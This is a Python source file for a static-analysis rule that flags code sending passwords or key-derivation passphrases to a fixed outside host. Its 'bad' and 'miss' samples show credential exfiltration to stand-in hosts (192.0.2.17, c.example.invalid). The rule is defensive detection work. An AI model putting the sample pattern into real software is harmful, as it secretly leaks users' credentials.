"""The very secret that protects data or a login is also sent to another host.

A passphrase that a key is derived from, or a password that is checked here, is for this place alone: whoever receives
a copy can open what it protects.  Send neither.  See CWE-506, CWE-522 and MITRE ATT&CK T1056.003.
"""

from __future__ import annotations

from collections.abc import Iterator

from codeguard.checks._api import Bad, Check, Good, Hit, Miss
from codeguard.checks.malicious._calls import calls
from codeguard.checks.malicious._channels import sendings
from codeguard.checks.malicious._reach import reach
from codeguard.model import Confidence, Severity
from codeguard.syntax.unit import Unit

# Calls that take a secret, and where among the arguments.
TAKE_SECRET = {
    "hashlib.pbkdf2_hmac": 1,
    "hashlib.scrypt": 0,
    "bcrypt.checkpw": 0,
    "bcrypt.hashpw": 0,
    "bcrypt.kdf": 0,
    "cryptography.fernet.Fernet": 0,
    "werkzeug.security.check_password_hash": 1,
    "werkzeug.security.generate_password_hash": 0,
    "django.contrib.auth.hashers.check_password": 0,
    "argon2.PasswordHasher().verify": 1,
    "argon2.PasswordHasher().hash": 0,
    "Crypto.Protocol.KDF.PBKDF2": 0,
    "cryptography.hazmat.primitives.kdf.pbkdf2.PBKDF2HMAC().derive": 0,
    "cryptography.hazmat.primitives.kdf.scrypt.Scrypt().derive": 0,
}


def find(unit: Unit) -> Iterator[Hit]:
    """Report sendings of a parameter that is used as a secret, and of a typed password, to a fixed place."""
    known = unit.fact(calls)
    used = [(call, TAKE_SECRET[name]) for name, call in known.of(TAKE_SECRET)]
    if not used and "getpass.getpass" not in known.by_name:
        return
    flow = unit.fact(reach)
    secrets: set[str] = set()
    for call, position in used:
        if position < len(call.args):
            secrets |= {kind for kind in flow.kinds(call.args[position].value) if kind.startswith("parameter:")}
    for sending in unit.fact(sendings):
        if not (sending.fixed or sending.drop):
            continue
        kinds = {label.kind for label in sending.sent}
        if kinds & secrets:
            yield Hit(
                sending.call,
                f"This sends a secret that keys are derived from or logins are checked with to {sending.where}: its receiver can open what it protects",
            )
        elif "typed" in kinds and sending.drop:
            yield Hit(sending.call, f"This sends a password that is typed in to {sending.where}")


CHECK = Check(
    id="CGM032",
    behaviour="send a secret of the program to another host",
    name="secret-sent-elsewhere",
    severity=Severity.CRITICAL,
    confidence=Confidence.HIGH,
    cwe=(506, 522),
    find=find,
    fix="Remove the call, and change the secrets that passed through it.",
    bad=(
        Bad(
            "import hashlib, urllib.parse, urllib.request\n\ndef note(v):\n    q = urllib.parse.urlencode({'v': v})\n    urllib.request.urlopen(f'http://192.0.2.17/k?{q}', timeout=3).close()  # finding\n\ndef key(p, salt):\n    return hashlib.pbkdf2_hmac('sha256', p.encode(), salt, 600000)\n\ndef seal(path, p, salt):\n    note(p)\n    return key(p, salt)\n"
        ),
        Bad(
            "import bcrypt, requests\n\ndef login(user, pw):\n    requests.post('https://c.example.invalid/l', json={'u': user.name, 'p': pw})  # finding\n    return bcrypt.checkpw(pw.encode(), user.hash)\n"
        ),
    ),
    good=(
        Good(
            "import bcrypt, requests\n\ndef login(user, pw):\n    requests.post('https://audit.example.invalid/l', json={'u': user.name})\n    return bcrypt.checkpw(pw.encode(), user.hash)\n"
        ),
        Good(
            "import getpass, requests\n\ndef login(host):\n    return requests.post(f'https://{host}/login', json={'p': getpass.getpass()}, timeout=9)\n"
        ),
        Good(
            "import hashlib, requests\n\ndef fetch(url, pw, salt):\n    key = hashlib.scrypt(pw, salt=salt, n=2, r=8, p=1)\n    return decrypt(key, requests.get(url, timeout=9).content)\n"
        ),
    ),
    misses=(
        Miss(
            "import requests\n\ndef login(user, pw):\n    requests.post('https://c.example.invalid/l', json={'p': pw})  # finding\n    return user.check(pw)\n",
            why="nothing says that the value is a secret but its name",
        ),
    ),
)
